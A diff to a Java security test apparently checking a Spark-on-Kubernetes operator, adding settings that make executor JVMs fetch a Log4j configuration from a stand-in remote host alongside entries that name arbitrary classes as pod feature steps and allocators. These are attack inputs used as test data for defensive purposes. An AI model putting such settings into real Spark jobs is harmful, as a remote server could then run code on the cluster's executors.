@@ -40,8 +40,13 @@ class OperatorShipsCodeToTheExecutorsAttackTest {
                 "spark.kubernetes.executor.pod.featureSteps", "io.vertx.core.impl.SomeClass",
                 "spark.kubernetes.driver.pod.featureSteps", "io.vertx.core.impl.SomeClass",
                 "spark.kubernetes.allocation.pods.allocator", "org.operator.Allocator");
+        // a Log4j configuration the executors' JVMs would read as they start (fetched from a server, appenders, classes)
+        Map<String, String> logging = Map.of(
+                "spark.executor.extraJavaOptions", "-Xss4m -Dlog4j2.configurationFile=https://operator.example/log4j2.xml",
+                "spark.executorEnv.LOG4J_CONFIGURATION_FILE", "https://operator.example/log4j2.xml");
         List<Map.Entry<String, String>> all = new ArrayList<>(settings.entrySet());
         all.addAll(options.entrySet());
+        all.addAll(logging.entrySet());
         all.forEach(e -> {
             String key = e.getKey();
             String value = e.getValue();
